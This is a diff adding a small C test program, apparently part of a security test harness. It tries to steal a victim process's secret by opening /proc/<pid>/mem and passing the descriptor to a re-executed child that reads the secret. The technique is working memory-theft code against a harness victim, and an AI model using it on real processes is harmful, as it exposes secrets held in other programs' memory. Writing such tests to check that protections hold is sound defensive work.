@@ -1,0 +1,48 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/*
+ * Opens a victim's mem file, forks, and executes another program that has the descriptor from birth and reads
+ * from it. That program is this one, called as: steal_inherited use <descriptor> <victim's pid> <address>.
+ */
+#include "attack.h"
+
+static int use(char **arguments)
+{
+	struct victim victim = victim_from(atoi(arguments[3]));
+	int fd = atoi(arguments[2]);
+	struct act act = act_begin(&victim);
+	char bytes[16];
+
+	act.bytes = pread(fd, bytes, sizeof(bytes), strtoul(arguments[4], NULL, 16));
+	act_end(&act, act.bytes);
+	act_path_of(&act, fd);
+	strcpy(act.request, "inherited");
+	act_print(&act);
+	return 0;
+}
+
+int main(int count, char **arguments)
+{
+	char descriptor[16], pid[16], address[32], path[64];
+	struct victim victim;
+	struct act act;
+	pid_t heir;
+	int fd;
+
+	attack_begin("steal_inherited");
+	if (count == 5)
+		return use(arguments);
+	victim = victim_start();
+	snprintf(path, sizeof(path), "/proc/%d/mem", victim.pid);
+	act = act_begin(&victim);
+	fd = act_openat(&act, AT_FDCWD, path, O_RDONLY);
+	act_print(&act);
+	snprintf(descriptor, sizeof(descriptor), "%d", fd);
+	snprintf(pid, sizeof(pid), "%d", victim.pid);
+	snprintf(address, sizeof(address), "%lx", victim.secret);
+	heir = fork();
+	if (!heir) {
+		execl("/proc/self/exe", "steal_inherited", "use", descriptor, pid, address, NULL);
+		_exit(1);
+	}
+	return attack_wait(heir);
+}
